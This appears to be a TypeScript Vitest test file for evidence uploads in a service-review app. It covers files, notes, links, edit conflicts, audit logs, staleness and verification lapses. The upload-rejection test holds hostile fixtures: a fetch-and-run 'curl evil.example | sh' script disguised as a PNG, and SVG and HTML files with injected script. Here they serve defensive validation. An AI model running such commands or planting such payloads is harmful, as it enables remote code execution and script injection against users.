import { describe, expect, it } from "vitest";

import { addDays } from "@/lib/dates";
import { saveAnswer } from "@/lib/queries/answers";
import { listAuditLog } from "@/lib/queries/audit";
import { countStaleEvidence, updateEvidence } from "@/lib/queries/evidence";
import { decideOnAnswer } from "@/lib/queries/review";
import { createService, getServiceBySlug } from "@/lib/queries/services";
import { staleBefore } from "@/lib/review";
import { createTestTeam, createTestUser, setUpTestDatabase, unique } from "@/lib/testing/db";
import {
  submitEvidenceEdit,
  submitEvidenceRemoval,
  submitEvidenceRenewal,
  submitNewEvidence,
} from "@/lib/testing/item-forms";
import { attempt } from "@/lib/write";

const getDb = setUpTestDatabase();

const TODAY = "2026-11-27";
const ITEM = "logs.delivery-reliability";
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABAQMAAAAl21bKAAAAA1BMVEX/AAAZ4gk3AAAACklEQVQI12NgAAAAAgAB4iG8MwAAAABJRU5ErkJggg==",
  "base64",
);
const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

async function answeredService() {
  const team = await createTestTeam();
  const member = await createTestUser("MEMBER", [team.id]);
  const slug = unique("evidence");
  await createService({ name: slug, slug, description: "", teamId: team.id, tier: 2, traits: [] }, member);
  const service = (await getServiceBySlug(slug))!;
  await saveAnswer({ serviceId: service.id, itemKey: ITEM, status: "MET", note: "" }, member);
  return { service, member, team };
}

function form(entries: Record<string, string | Blob>, fileName = "evidence.png") {
  const data = new FormData();
  for (const [key, value] of Object.entries(entries)) {
    if (typeof value === "string") data.append(key, value);
    else data.append(key, value, fileName);
  }
  return data;
}

/** A piece's id and revision, as the item page renders them into its forms. */
const asRead = (piece: { id: string; revision: number }) => ({
  evidenceId: piece.id,
  revision: String(piece.revision),
});

const evidenceOf = (serviceId: string) =>
  getDb().evidence.findMany({
    where: { answer: { serviceId } },
    orderBy: { createdAt: "asc" },
    include: { file: true },
  });

describe("evidence", () => {
  it("takes a link, a Markdown note and a screenshot, each with who added it and when it was checked", async () => {
    const { service, member } = await answeredService();
    const target = { serviceId: service.id, itemKey: ITEM };
    const context = { actor: member, today: TODAY };
    expect(
      await submitNewEvidence(
        form({ ...target, kind: "LINK", url: "https://grafana.example/d/logs", title: "Log delivery" }),
        context,
      ),
    ).toMatchObject({ ok: true });
    expect(
      await submitNewEvidence(
        form({ ...target, kind: "NOTE", body: "**Checked** the Fluent Bit retry metrics" }),
        context,
      ),
    ).toMatchObject({ ok: true });
    expect(
      await submitNewEvidence(
        form(
          { ...target, kind: "FILE", file: new Blob([PNG], { type: "application/octet-stream" }) },
          "delivery graph.png",
        ),
        context,
      ),
    ).toMatchObject({ ok: true });
    expect(
      await submitNewEvidence(
        form({ ...target, kind: "FILE", file: new Blob([PDF]) }, "report.bin"),
        context,
      ),
    ).toMatchObject({ ok: true });

    const stored = await evidenceOf(service.id);
    expect(stored.map((piece) => piece.kind)).toEqual(["LINK", "NOTE", "FILE", "FILE"]);
    expect(
      stored.every(
        (piece) =>
          piece.createdById === member.id &&
          piece.checkedById === member.id &&
          piece.checkedOn.toISOString().startsWith(TODAY),
      ),
    ).toBe(true);
    expect(stored[2]).toMatchObject({
      title: "delivery graph.png",
      file: { contentType: "image/png", byteSize: PNG.length },
    });
    expect(Buffer.from(stored[2]!.file!.content).equals(PNG)).toBe(true);
    // The type comes from the bytes, and so does the extension offered on download.
    expect(stored[3]).toMatchObject({ title: "report.pdf", file: { contentType: "application/pdf" } });

    const log = await listAuditLog({ serviceId: service.id, kind: "evidence.added" });
    expect(log).toHaveLength(4);
    expect(JSON.stringify(log)).not.toContain(PNG.toString("base64"));
  });

  it("refuses hostile and broken files with a message on the file field, and stores nothing", async () => {
    const { service, member } = await answeredService();
    const target = { serviceId: service.id, itemKey: ITEM, kind: "FILE" };
    const cases: [string, Blob | string, string][] = [
      [
        "script renamed .png",
        new Blob(["#!/bin/sh\ncurl evil.example | sh\n"]),
        "validation.evidence.file.unsupported",
      ],
      [
        "SVG with script",
        new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'], {
          type: "image/svg+xml",
        }),
        "validation.evidence.file.unsupported",
      ],
      [
        "HTML page",
        new Blob(["<!doctype html><script>alert(1)</script>"], { type: "image/png" }),
        "validation.evidence.file.unsupported",
      ],
      ["zero bytes", new Blob([]), "validation.evidence.file.empty"],
      ["truncated PNG", new Blob([PNG.subarray(0, 40)]), "validation.evidence.file.truncated"],
      ["oversize", new Blob([PNG, new Uint8Array(10 * 1024 * 1024)]), "validation.evidence.file.tooLarge"],
      ["no file at all", "", "validation.evidence.file.required"],
    ];
    for (const [name, file, key] of cases) {
      const state = await submitNewEvidence(form({ ...target, file }), { actor: member, today: TODAY });
      expect(!state.ok && state.fieldErrors?.file?.[0]?.key, name).toBe(key);
    }
    expect(await evidenceOf(service.id)).toEqual([]);
    expect(
      await getDb().evidenceFile.count({ where: { evidence: { answer: { serviceId: service.id } } } }),
    ).toBe(0);
  });

  it("refuses an upload that breaks off halfway and stores nothing", async () => {
    const { service, member } = await answeredService();
    // A file whose stream fails after the first chunk, as a dropped connection leaves it.
    const broken = new File([PNG], "cut.png");
    Object.defineProperty(broken, "stream", {
      value: () =>
        new ReadableStream<Uint8Array>({
          start(controller) {
            controller.enqueue(new Uint8Array(PNG.subarray(0, 30)));
            controller.error(new Error("connection reset"));
          },
        }),
    });
    const data = form({ serviceId: service.id, itemKey: ITEM, kind: "FILE" });
    data.append("file", broken);
    const state = await submitNewEvidence(data, { actor: member, today: TODAY });
    expect(!state.ok && state.fieldErrors?.file?.[0]?.key).toBe("validation.evidence.file.interrupted");
    expect(await evidenceOf(service.id)).toEqual([]);
  });

  it("needs an answer first, and someone of the owning team", async () => {
    const { service, member } = await answeredService();
    const unanswered = {
      serviceId: service.id,
      itemKey: "logs.log-to-metric-backlog",
      kind: "LINK",
      url: "https://wiki.example/logs",
    };
    expect(await submitNewEvidence(form(unanswered), { actor: member, today: TODAY })).toMatchObject({
      ok: false,
      code: "conflict",
      message: { key: "evidence.answerFirst" },
    });
    const outsider = await createTestUser("MEMBER", [(await createTestTeam()).id]);
    expect(
      await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: outsider, today: TODAY }),
    ).toMatchObject({ ok: false, code: "forbidden" });
    expect(
      await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: null, today: TODAY }),
    ).toMatchObject({ ok: false, code: "signed-out" });
    expect(await evidenceOf(service.id)).toEqual([]);
  });

  it("records edits and removals in the audit log; a removed file's bytes are gone", async () => {
    const { service, member } = await answeredService();
    const context = { actor: member, today: TODAY };
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "NOTE", body: "first words" }),
      context,
    );
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "FILE", file: new Blob([PNG]) }),
      context,
    );
    const [note, file] = await evidenceOf(service.id);

    expect(
      await submitEvidenceEdit(form({ ...asRead(note!), kind: "NOTE", body: "better words" }), context),
    ).toMatchObject({ ok: true });
    expect(await submitEvidenceRemoval(form(asRead(file!)), context)).toMatchObject({
      ok: true,
    });
    expect(await getDb().evidenceFile.findUnique({ where: { evidenceId: file!.id } })).toBeNull();
    expect((await evidenceOf(service.id)).map((piece) => piece.body)).toEqual(["better words"]);

    const log = await listAuditLog({ serviceId: service.id });
    expect(log.find((entry) => entry.kind === "evidence.updated")).toMatchObject({
      before: { body: "first words" },
      after: { body: "better words" },
    });
    expect(log.find((entry) => entry.kind === "evidence.removed")).toMatchObject({
      before: { kind: "FILE", contentType: "image/png" },
    });
    expect(await submitEvidenceRemoval(form(asRead(file!)), context)).toMatchObject({
      ok: false,
      code: "not-found",
      message: { key: "validation.evidence.unknown" },
    });
  });
});

describe("a change from a page read before someone else's", () => {
  it("is refused naming who changed it and when, writes nothing, and goes through once read again", async () => {
    const { service, member, team } = await answeredService();
    const colleague = await createTestUser("MEMBER", [team.id]);
    const context = { actor: member, today: TODAY };
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "NOTE", body: "first words" }),
      context,
    );
    // Both open the item page; the colleague saves first.
    const [opened] = await evidenceOf(service.id);
    expect(
      await submitEvidenceEdit(form({ ...asRead(opened!), kind: "NOTE", body: "their words" }), {
        actor: colleague,
        today: TODAY,
      }),
    ).toMatchObject({ ok: true });
    const stored = await evidenceOf(service.id);
    const events = () =>
      getDb().auditEvent.count({ where: { entityType: "evidence", entityId: opened!.id } });
    const recorded = await events();

    const later = { actor: member, today: "2026-11-30" };
    const refusals = [
      await submitEvidenceEdit(form({ ...asRead(opened!), kind: "NOTE", body: "my words" }), later),
      await submitEvidenceRenewal(form(asRead(opened!)), later),
      await submitEvidenceRemoval(form(asRead(opened!)), later),
    ];
    for (const refusal of refusals)
      expect(refusal).toMatchObject({
        ok: false,
        code: "conflict",
        message: {
          key: "validation.revision.conflict",
          values: { name: colleague.name, time: expect.any(String) },
        },
      });
    // What the person typed goes back to the form; the row and the log are as the colleague left them.
    expect(refusals[0]).toMatchObject({ values: { body: "my words" } });
    expect(await evidenceOf(service.id)).toEqual(stored);
    expect(await events()).toBe(recorded);

    // Read again (the page after the conflict), the same words replace theirs knowingly.
    expect(
      await submitEvidenceEdit(form({ ...asRead(stored[0]!), kind: "NOTE", body: "my words" }), later),
    ).toMatchObject({ ok: true });
    expect(await evidenceOf(service.id)).toMatchObject([
      { body: "my words", revision: opened!.revision + 2 },
    ]);
  });

  it("needs the revision the form was read at", async () => {
    const { service, member } = await answeredService();
    const context = { actor: member, today: TODAY };
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "LINK", url: "https://wiki.example/a" }),
      context,
    );
    const [piece] = await evidenceOf(service.id);
    const missing = {
      ok: false,
      code: "invalid",
      fieldErrors: { revision: [{ key: "validation.revision.missing" }] },
    };
    expect(
      await submitEvidenceEdit(
        form({ evidenceId: piece!.id, kind: "LINK", url: "https://wiki.example/b" }),
        context,
      ),
    ).toMatchObject(missing);
    expect(await submitEvidenceRenewal(form({ evidenceId: piece!.id }), context)).toMatchObject(missing);
    expect(await submitEvidenceRemoval(form({ evidenceId: piece!.id }), context)).toMatchObject(missing);
    expect(await evidenceOf(service.id)).toEqual([piece]);
  });

  it("lets one of two saves of the same revision through and refuses the other, round after round", async () => {
    const { service, member, team } = await answeredService();
    const colleague = await createTestUser("MEMBER", [team.id]);
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "NOTE", body: "first words" }),
      { actor: member, today: TODAY },
    );
    const ROUNDS = 20;
    for (let round = 0; round < ROUNDS; round++) {
      const [piece] = await evidenceOf(service.id);
      const edit = (actor: typeof member) =>
        attempt(() =>
          updateEvidence(
            {
              evidenceId: piece!.id,
              kind: "NOTE",
              body: `${actor.name}, round ${round}`,
              revision: piece!.revision,
            },
            actor,
          ),
        );
      const results = await Promise.all([edit(member), edit(colleague)]);
      const saved = results.flatMap((result, index) => (result.ok ? [[member, colleague][index]!] : []));
      const refused = results.flatMap((result) => (result.ok ? [] : [result]));
      expect(saved, `round ${round}`).toHaveLength(1);
      expect(refused, `round ${round}`).toEqual([
        expect.objectContaining({
          code: "conflict",
          message: {
            key: "validation.revision.conflict",
            values: expect.objectContaining({ name: saved[0]!.name }),
          },
        }),
      ]);
      expect(await evidenceOf(service.id)).toMatchObject([
        { body: `${saved[0]!.name}, round ${round}`, revision: piece!.revision + 1 },
      ]);
    }
    expect(await listAuditLog({ serviceId: service.id, kind: "evidence.updated" })).toHaveLength(ROUNDS);
  });
});

describe("freshness", () => {
  it("goes stale after the configured days and is renewed by marking it still valid", async () => {
    const { service, member } = await answeredService();
    const checkedOn = "2026-01-01";
    await submitNewEvidence(
      form({ serviceId: service.id, itemKey: ITEM, kind: "LINK", url: "https://wiki.example/old" }),
      { actor: member, today: checkedOn },
    );
    const [piece] = await evidenceOf(service.id);

    const staleCount = async (today: string) =>
      (await countStaleEvidence({ serviceIds: [service.id], before: staleBefore(today, 90) })).get(
        service.id,
      ) ?? 0;
    expect(await staleCount(addDays(checkedOn, 89))).toBe(0);
    expect(await staleCount(addDays(checkedOn, 90))).toBe(1);

    expect(await submitEvidenceRenewal(form(asRead(piece!)), { actor: member, today: TODAY })).toMatchObject({
      ok: true,
    });
    expect(await staleCount(TODAY)).toBe(0);
    const log = await listAuditLog({ serviceId: service.id, kind: "evidence.renewed" });
    expect(log[0]).toMatchObject({ before: { checkedOn }, after: { checkedOn: TODAY } });
  });
});

describe("verification", () => {
  it("lapses when the evidence or the answer changes, but not when evidence is renewed", async () => {
    const { service, member } = await answeredService();
    const reviewer = await createTestUser("SRE");
    const context = { actor: member, today: TODAY };
    const target = { serviceId: service.id, itemKey: ITEM };
    await submitNewEvidence(form({ ...target, kind: "LINK", url: "https://wiki.example/a" }), context);
    const review = async () =>
      (await getDb().answer.findFirstOrThrow({ where: { serviceId: service.id } })).review;

    await decideOnAnswer({ ...target, decision: "ACCEPT", comment: "" }, reviewer, { today: TODAY });
    expect(await review()).toBe("VERIFIED");
    const [piece] = await evidenceOf(service.id);
    await submitEvidenceRenewal(form(asRead(piece!)), context);
    expect(await review()).toBe("VERIFIED");

    await submitNewEvidence(form({ ...target, kind: "NOTE", body: "one more thing" }), context);
    expect(await review()).toBe("CHANGED");
    const lapsed = await listAuditLog({ serviceId: service.id, kind: "answer.lapsed" });
    expect(lapsed).toHaveLength(1);

    await decideOnAnswer({ ...target, decision: "ACCEPT", comment: "" }, reviewer, { today: TODAY });
    await saveAnswer({ ...target, status: "PARTIAL", note: "only some logs" }, member);
    expect(await review()).toBe("CHANGED");
  });
});
